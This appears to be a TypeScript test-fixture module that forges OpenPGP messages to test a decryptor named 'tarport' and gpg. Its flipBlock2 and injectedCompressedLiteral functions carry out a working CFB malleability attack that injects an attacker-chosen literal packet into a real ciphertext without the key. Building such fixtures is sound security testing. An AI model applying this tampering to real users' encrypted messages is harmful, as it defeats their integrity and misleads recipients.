// Forged OpenPGP messages, made as an attacker makes them: with the recipient's public key only
// (anyone can encrypt to it), or by editing a real ciphertext without any key (CFB malleability).
// The unit tests feed them to tarport's decryptor; the integration tests to gpg as well.

import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync } from 'node:zlib';
import * as openpgp from 'openpgp';

/** A new-format packet with a definite length. */
export function packet(tag: number, body: Buffer): Buffer {
  return Buffer.concat([Buffer.from([0xc0 | tag]), definite(body.length), body]);
}

function definite(n: number): Buffer {
  if (n < 192) return Buffer.from([n]);
  if (n < 8384) return Buffer.from([((n - 192) >> 8) + 192, (n - 192) & 0xff]);
  const b = Buffer.alloc(5);
  b[0] = 0xff;
  b.writeUInt32BE(n, 1);
  return b;
}

/**
 * A new-format packet in partial lengths: the first part `first` bytes (a power of 2), then parts
 * of `rest` bytes (a power of 2, 1 for the slowest framing), then a definite last part.
 */
export function partialPacket(tag: number, body: Buffer, first: number, rest: number): Buffer {
  const out: Buffer[] = [Buffer.from([0xc0 | tag])];
  let i = 0;
  let size = first;
  while (body.length - i > size) {
    out.push(Buffer.from([0xe0 | Math.log2(size)]), body.subarray(i, i + size));
    i += size;
    size = rest;
  }
  out.push(definite(body.length - i), body.subarray(i));
  return Buffer.concat(out);
}

/** A literal data packet: binary, no file name, no date. */
export function literal(data: Buffer): Buffer {
  return packet(11, Buffer.concat([Buffer.from([0x62, 0, 0, 0, 0, 0]), data]));
}

/** A literal data packet of indeterminate length (old format), as gpg writes inside compression. */
export function literalToEnd(data: Buffer): Buffer {
  return Buffer.concat([Buffer.from([0xaf, 0x62, 0, 0, 0, 0, 0]), data]);
}

/** A compressed data packet (ZIP = 1, ZLIB = 2): definite length, or indeterminate as gpg writes it. */
export function compressed(inner: Buffer, opts: { algorithm?: 1 | 2; framing?: 'definite' | 'indefinite'; trailing?: Buffer } = {}): Buffer {
  const algorithm = opts.algorithm ?? 1;
  const body = Buffer.concat([Buffer.from([algorithm]), algorithm === 1 ? deflateRawSync(inner) : deflateSync(inner), opts.trailing ?? Buffer.alloc(0)]);
  return opts.framing === 'indefinite' ? Buffer.concat([Buffer.from([0xa3]), body]) : packet(8, body);
}

export interface SeipdOptions {
  /** 'wrong': one bit of the hash flipped; 'none': no MDC packet at all. */
  mdc?: 'good' | 'wrong' | 'none';
  /** Partial lengths for the SEIPD packet: [first, rest]. */
  partial?: [number, number];
  /** Bytes after the SEIPD packet. */
  after?: Buffer;
}

/** SEIPDv1 around `plaintext` (packets), encrypted with `sessionKey` (AES-256). */
export function seipd(sessionKey: Buffer, plaintext: Buffer, opts: SeipdOptions = {}): Buffer {
  const prefix = randomBytes(16);
  const head = Buffer.concat([prefix, prefix.subarray(14, 16), plaintext]);
  let tail = Buffer.alloc(0);
  if (opts.mdc !== 'none') {
    const hash = createHash('sha1').update(head).update(Buffer.from([0xd3, 0x14])).digest();
    if (opts.mdc === 'wrong') hash[7]! ^= 0x10;
    tail = Buffer.concat([Buffer.from([0xd3, 0x14]), hash]);
  }
  const c = createCipheriv('aes-256-cfb', sessionKey, Buffer.alloc(16));
  const body = Buffer.concat([Buffer.from([1]), c.update(Buffer.concat([head, tail])), c.final()]);
  const framed = opts.partial ? partialPacket(18, body, opts.partial[0], opts.partial[1]) : packet(18, body);
  return Buffer.concat([framed, opts.after ?? Buffer.alloc(0)]);
}

/** The public-key encrypted session key packets for `sessionKey`, to the armored public key. */
export async function pkesk(armoredPublicKey: string, sessionKey: Buffer): Promise<Buffer> {
  const key = await openpgp.readKey({ armoredKey: armoredPublicKey });
  return Buffer.from(await openpgp.encryptSessionKey({ data: sessionKey, algorithm: 'aes256', encryptionKeys: key, format: 'binary' }));
}

/** A whole message to the public key, as anyone holding that key can make. */
export async function forge(armoredPublicKey: string, plaintext: Buffer, opts: SeipdOptions = {}): Promise<Buffer> {
  const sessionKey = randomBytes(32);
  return Buffer.concat([await pkesk(armoredPublicKey, sessionKey), seipd(sessionKey, plaintext, opts)]);
}

/** Where the SEIPD body's ciphertext starts in a message: after the PKESKs, the header and the version. */
export function ciphertextOffset(message: Buffer): number {
  let i = 0;
  for (;;) {
    const first = message[i]!;
    const tag = first & 0x40 ? first & 0x3f : (first >> 2) & 0x0f;
    let hdr = 1;
    let n: number;
    if (first & 0x40) {
      const a = message[i + 1]!;
      if (a < 192) [hdr, n] = [2, a];
      else if (a < 224) [hdr, n] = [3, ((a - 192) << 8) + message[i + 2]! + 192];
      else if (a === 255) [hdr, n] = [6, message.readUInt32BE(i + 2)];
      else [hdr, n] = [2, 1 << (a & 0x1f)];
    } else {
      const lt = first & 3;
      hdr = 1 + (1 << lt);
      n = lt === 0 ? message[i + 1]! : lt === 1 ? message.readUInt16BE(i + 1) : message.readUInt32BE(i + 1);
    }
    if (tag === 18) return i + hdr + 1;
    i += hdr + n;
  }
}

/**
 * The CFB malleability attack on a real message, without its key: the plaintext of block 2 (bytes
 * 16-31 after the version octet) is known from byte 18 on (tarport's literal header and the start of
 * the data), so xoring ciphertext block 2 with (known xor wanted) makes it decrypt to `wanted`
 * there; block 3 turns to garbage and everything after is untouched. `wanted` replaces the literal
 * header with a compressed packet of indeterminate length whose deflate stream ends at once and
 * yields a literal packet of the attacker's choosing.
 */
export function flipBlock2(message: Buffer, known: Buffer, wanted: Buffer): Buffer {
  if (known.length !== 14 || wanted.length !== 14) throw new Error('block 2 has 14 known bytes (18-31)');
  const out = Buffer.from(message);
  const at = ciphertextOffset(message) + 18;
  for (let k = 0; k < 14; k++) out[at + k]! ^= known[k]! ^ wanted[k]!;
  return out;
}

/** 14 bytes: a compressed packet (old format, to the end) holding a short literal packet, deflated. */
export function injectedCompressedLiteral(): Buffer {
  const inner = deflateRawSync(Buffer.from([0xac, 0x07, 0x62, 0, 0, 0, 0, 0, 0x41]), { level: 9 });
  const w = Buffer.concat([Buffer.from([0xa3, 0x01]), inner]);
  if (w.length > 14) throw new Error(`the injected packet takes ${w.length} bytes, more than block 2 holds`);
  return Buffer.concat([w, Buffer.alloc(14 - w.length)]);
}
